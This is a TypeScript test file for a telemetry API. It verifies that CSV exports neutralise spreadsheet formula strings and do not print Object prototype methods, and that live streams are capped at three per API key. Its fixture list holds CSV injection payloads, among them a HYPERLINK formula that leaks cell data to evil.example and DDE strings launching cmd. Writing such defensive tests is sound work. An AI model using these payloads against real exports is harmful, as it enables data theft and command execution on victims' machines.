// biome-ignore-all lint/suspicious/noExplicitAny: response bodies are parsed JSON, checked field by field
/**
 * Issue 19 on the telemetry routes, over a real API, SQLite registry and InfluxDB:
 * - item 3, exports: a CSV column named like an Object method prints empty where a reading lacks it
 *   (not `function toString()...`), and string values that a spreadsheet would run as formulas go out
 *   neutralised (OWASP: a leading single quote, quoted), while negative numbers stay numbers;
 * - item 6, live streams: a partner opens at most `maxStreamsPerKey` streams, the next is a 429
 *   `too_many_streams` in the contract's shape; other partners are unaffected, a closed stream frees
 *   its slot, and open streams keep delivering readings.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createLocalLiveFeed } from '../api/live/local-feed.js';
import { waitFor } from './helpers/poll.js';
import { startTelemetryFixture, type TelemetryFixture, writeReadings } from './helpers/telemetry.js';

const feed = createLocalLiveFeed();
let f: TelemetryFixture;
let base: string;
const T0 = Date.UTC(2026, 2, 1);

beforeAll(async () => {
  f = await startTelemetryFixture({ feed, routes: { maxStreamsPerKey: 3, heartbeatMs: 60_000 } });
  base = await f.api.app.listen({ host: '127.0.0.1', port: 0 });
});
afterAll(async () => {
  await f?.close();
});

describe('CSV export', () => {
  const HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    '+cmd|" /C calc"!A0',
    '-2+3',
    '@SUM(1+1)*cmd|" /C calc"!A0',
    '\t=1+1',
    '\r=1+1',
  ];

  it('neutralises formula strings, keeps numbers, and reads only own keys', async () => {
    await writeReadings(f, f.pilotId, f.d1.id, [
      ...HOSTILE.map((text, i) => ({ ts: T0 + i * 1000, values: { note: text, temp: -3 - i } })),
      { ts: T0 + 10_000, values: { toString: 5, constructor: 6, temp: 1.5 } },
    ]);
    const res = await f.api.app.inject({
      url: `/v1/devices/${f.d1.id}/telemetry?from=${T0}&to=${T0 + 60_000}&keys=toString,constructor,valueOf,note,temp`,
      headers: { authorization: `Bearer ${f.key}`, accept: 'text/csv' },
    });
    expect(res.statusCode).toBe(200);
    const lines = res.body.split('\r\n');
    expect(lines[0]).toBe('ts,toString,constructor,valueOf,note,temp');
    expect(res.body).not.toContain('function');
    expect(res.body).not.toContain('[native code]');
    const quoted = (s: string) => `"'${s.replace(/"/g, '""')}"`;
    // Row i: no toString/constructor/valueOf of its own, the note neutralised, the number as is.
    // (RFC 4180 quoting keeps the CR inside its quoted field, so split rows on the ISO timestamps.)
    const rows = res.body.split(/\r\n(?=\d{4}-)/).slice(1);
    HOSTILE.forEach((text, i) => {
      expect(rows[i]).toBe(`${new Date(T0 + i * 1000).toISOString()},,,,${quoted(text)},${-3 - i}`);
    });
    expect(rows[HOSTILE.length]).toBe(`${new Date(T0 + 10_000).toISOString()},5,6,,,1.5\r\n`);
  });

  it('keeps the JSON answer exact (the neutralising is for CSV only)', async () => {
    const res = await f.api.app.inject({
      url: `/v1/devices/${f.d1.id}/telemetry?from=${T0}&to=${T0 + 1}&keys=note`,
      headers: { authorization: `Bearer ${f.key}` },
    });
    expect(res.json().items[0].values.note).toBe(HOSTILE[0]);
  });
});

/** Opens a live stream; `close()` aborts it. */
async function openStream(path: string, key: string) {
  const abort = new AbortController();
  const res = await fetch(`${base}${path}`, {
    headers: { authorization: `Bearer ${key}` },
    signal: abort.signal,
  });
  let text = '';
  const reader = res.body?.getReader();
  const pump = (async () => {
    try {
      for (;;) {
        const r = await reader!.read();
        if (r.done) return;
        text += Buffer.from(r.value).toString('utf8');
      }
    } catch {
      // aborted
    }
  })();
  return {
    res,
    text: () => text,
    async close() {
      abort.abort();
      await pump;
    },
  };
}

const until = (check: () => boolean, what: string) => waitFor(check, 5000, what);

describe('live streams per API key', () => {
  it('past the cap: 429 in the contract shape; other keys unaffected; a closed stream frees its slot', async () => {
    const devicePath = `/v1/devices/${f.d1.id}/telemetry/stream`;
    const pilotPath = `/v1/pilots/${f.pilotId}/telemetry/stream`;
    // Device and pilot streams share the key's cap.
    const open = [
      await openStream(devicePath, f.key),
      await openStream(pilotPath, f.key),
      await openStream(devicePath, f.key),
    ];
    for (const s of open) expect(s.res.status).toBe(200);

    for (const path of [devicePath, pilotPath]) {
      const refused = await fetch(`${base}${path}`, { headers: { authorization: `Bearer ${f.key}` } });
      expect(refused.status).toBe(429);
      expect(await refused.json()).toEqual({
        error: {
          code: 'too_many_streams',
          message: 'at most 3 live streams may be open per API key; close one first',
          details: { maxStreams: 3 },
        },
      });
    }

    // Another partner streams its own devices as usual.
    const outsider = await openStream(`/v1/devices/${f.outsiderDeviceId}/telemetry/stream`, f.outsiderKey);
    expect(outsider.res.status).toBe(200);

    // The open streams keep delivering.
    await until(() => feed.listenerCount() === 4, 'four listeners');
    feed.publish({ pilotId: f.pilotId, deviceId: f.d1.id, readings: [{ ts: T0, values: { temp: 7 } }] });
    for (const s of open)
      await until(() => s.text().includes('"temp":7'), 'the reading on every open stream');

    // Closing one frees a slot (the server notices the disconnect).
    await open[0]!.close();
    await until(() => feed.listenerCount() === 3, 'the closed stream to be dropped');
    const again = await openStream(devicePath, f.key);
    expect(again.res.status).toBe(200);
    for (const s of [again, outsider, ...open.slice(1)]) await s.close();
    await until(() => feed.listenerCount() === 0, 'no listeners');
  });
});
